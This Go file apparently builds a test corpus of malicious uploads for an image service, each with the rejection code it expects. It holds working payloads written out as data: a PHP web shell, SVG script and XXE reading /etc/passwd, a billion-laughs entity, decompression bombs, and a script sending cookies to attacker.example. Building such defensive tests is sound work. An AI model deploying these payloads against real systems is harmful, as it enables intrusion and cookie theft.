package main

import (
	"archive/zip"
	"bytes"
	"encoding/hex"
	"errors"
	"time"
)

// eicarHex is the EICAR anti-virus test string, hex-encoded so that this
// source file is not itself flagged.
const eicarHex = "58354f2150254041505b345c505a58353428505e2937434329377d2445494341522d5354414e444152442d414e544956495255532d544553542d46494c452124482b482a"

func eicar() []byte {
	b, _ := hex.DecodeString(eicarHex)
	return b
}

const photo = "photo/concert.jpg"

func corpus() []item {
	return []item{
		{"eicar.txt", "the EICAR test string alone (not an image: refused by the sniffer before any scan)",
			"415", "unsupported_media_type", func(source) ([]byte, error) { return eicar(), nil }},
		{"eicar-in-comment.jpg", "a valid JPEG (" + photo + ") carrying EICAR in a COM segment",
			"422", "malware_detected", func(s source) ([]byte, error) { return withJPEGComment(s, photo, eicar()) }},
		{"huge-dimensions.png", "a PNG whose IHDR claims 100000x100000 RGBA with a tiny IDAT",
			"422", "too_many_pixels", func(source) ([]byte, error) { return hugePNG(), nil }},
		{"huge-dimensions.jpg", "a JPEG (" + photo + ") whose SOF claims 65500x65500",
			"422", "too_many_pixels", func(s source) ([]byte, error) { return hugeJPEG(s, photo) }},
		{"bomb-60000x60000.png", "a 1-bit 60000x60000 PNG of zeros: ~440 KB whose zlib stream inflates to 450 MB, 3.6 gigapixels (3.6 GB as 8-bit pixels)",
			"422", "too_many_pixels", func(source) ([]byte, error) { return bombPNG(60000, 60000) }},
		{"bomb-16383x16383.webp", "a lossless WebP of 16383x16383 black pixels in a few dozen bytes (every symbol costs 0 bits): decodes to 1 GiB of RGBA",
			"422", "too_many_pixels", func(source) ([]byte, error) { return bombWebP(16383, 16383), nil }},
		{"frames-100000.gif", "a 1x1 GIF with 100 000 frames",
			"422", "too_many_frames", func(source) ([]byte, error) { return manyFramesGIF(100_000), nil }},
		{"truncated.jpg", "the first half of " + photo,
			"422", "undecodable", func(s source) ([]byte, error) { return half(s, photo) }},
		{"truncated.png", "the first half of png16/Flag_of_the_Netherlands-16bit.png",
			"422", "undecodable", func(s source) ([]byte, error) { return half(s, "png16/Flag_of_the_Netherlands-16bit.png") }},
		{"truncated.webp", "the first half of animated/rotating-squares.webp",
			"422", "undecodable", func(s source) ([]byte, error) { return half(s, "animated/rotating-squares.webp") }},
		{"truncated.avif", "the first half of exif-orientation/avif-orientation-6.avif",
			"422", "undecodable", func(s source) ([]byte, error) { return half(s, "exif-orientation/avif-orientation-6.avif") }},
		{"bitflip.jpg", photo + " with 12 bytes XORed with 0x55, spread evenly after the first 64 (a decoder may repair it: then 201, never 5xx)",
			"422,201", "undecodable", func(s source) ([]byte, error) { return flipped(s, photo) }},
		{"bitflip.png", "png16/Flag_of_the_Netherlands-16bit.png with 12 bytes XORed with 0x55 after the first 64 (chunk CRCs no longer match)",
			"422", "undecodable", func(s source) ([]byte, error) { return flipped(s, "png16/Flag_of_the_Netherlands-16bit.png") }},
		{"bitflip.webp", "animated/rotating-squares.webp with 12 bytes XORed with 0x55 after the first 64 (then 201 if the decoder copes, never 5xx)",
			"422,201", "undecodable", func(s source) ([]byte, error) { return flipped(s, "animated/rotating-squares.webp") }},
		{"bitflip.avif", "exif-orientation/avif-orientation-6.avif with 12 bytes XORed with 0x55 after the first 64 (then 201 if the decoder copes, never 5xx)",
			"422,201", "undecodable", func(s source) ([]byte, error) { return flipped(s, "exif-orientation/avif-orientation-6.avif") }},
		{"svg-script.svg", "an SVG with <script>, an onload handler, a javascript: link and a foreignObject (sanitised to plain shapes when SVG is enabled: 201)",
			"415", "svg_not_allowed", func(source) ([]byte, error) { return []byte(svgScript), nil }},
		{"svg-xxe.svg", "an SVG whose DOCTYPE declares an external entity (file:///etc/passwd) and a billion-laughs expansion (svgsafe: 422 svg_doctype when SVG is enabled)",
			"415", "svg_not_allowed,unsupported_media_type", func(source) ([]byte, error) { return []byte(svgXXE), nil }},
		{"html.jpg", "an HTML page with a script, named .jpg",
			"415", "unsupported_media_type", func(source) ([]byte, error) { return []byte(htmlPage), nil }},
		{"php.jpg", "a PHP web shell, named .jpg",
			"415", "unsupported_media_type", func(source) ([]byte, error) { return []byte(phpShell), nil }},
		{"php-in-gif-header.jpg", "GIF89a magic followed by a PHP web shell, named .jpg (sniffed as GIF, fails to decode)",
			"422", "undecodable", func(source) ([]byte, error) { return []byte("GIF89a" + phpShell), nil }},
		{"polyglot-jpeg-zip.jpg", "a valid JPEG (" + photo + ") with a ZIP archive appended (offsets adjusted, so unzip opens it) holding index.html with a script: stored as a JPEG, originals served as image/jpeg with nosniff, variants re-encoded",
			"201", "", func(s source) ([]byte, error) { return jpegZIP(s, photo) }},
		{"gps.jpg", "metadata/GPS.jpg: a JPEG whose EXIF holds a GPS position (54.99N 1.91W); stored, but served to non-owners only with the location removed",
			"201", "", func(s source) ([]byte, error) { return s.read("metadata/GPS.jpg") }},
	}
}

const svgScript = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100" onload="alert(document.domain)">
  <script type="text/javascript">alert(document.cookie)</script>
  <rect width="100" height="100" fill="teal"/>
  <a xlink:href="javascript:alert(1)"><text x="10" y="50">click</text></a>
  <foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(2)"/></body></foreignObject>
  <image href="https://attacker.example/track.png" width="1" height="1"/>
</svg>
`

const svgXXE = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE svg [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><text x="0" y="20">&xxe;&lol3;</text></svg>
`

const htmlPage = `<!DOCTYPE html>
<html><head><title>not an image</title></head>
<body><script>fetch("https://attacker.example/?c=" + document.cookie)</script></body></html>
`

const phpShell = `<?php if (isset($_GET["cmd"])) { system($_GET["cmd"]); } ?>
`

// jpegZIP appends a ZIP archive whose offsets count the JPEG before it.
func jpegZIP(s source, rel string) ([]byte, error) {
	jpg, err := s.read(rel)
	if err != nil {
		return nil, err
	}
	var buf bytes.Buffer
	buf.Write(jpg)
	zw := zip.NewWriter(&buf)
	zw.SetOffset(int64(len(jpg)))
	w, err := zw.CreateHeader(&zip.FileHeader{Name: "index.html", Method: zip.Deflate,
		Modified: time.Date(2020, 1, 1, 0, 0, 0, 0, time.UTC)})
	if err != nil {
		return nil, err
	}
	w.Write([]byte(htmlPage))
	if err := zw.Close(); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}

func half(s source, rel string) ([]byte, error) {
	b, err := s.read(rel)
	return b[:len(b)/2], err
}

// flipped XORs 12 bytes with 0x55, evenly spread after the first 64 bytes
// (which the sniffer reads).
func flipped(s source, rel string) ([]byte, error) {
	b, err := s.read(rel)
	if err != nil {
		return nil, err
	}
	if len(b) < 64+12 {
		return nil, errors.New("too small to flip")
	}
	step := (len(b) - 64) / 12
	for i := range 12 {
		b[64+i*step+step/2] ^= 0x55
	}
	return b, nil
}
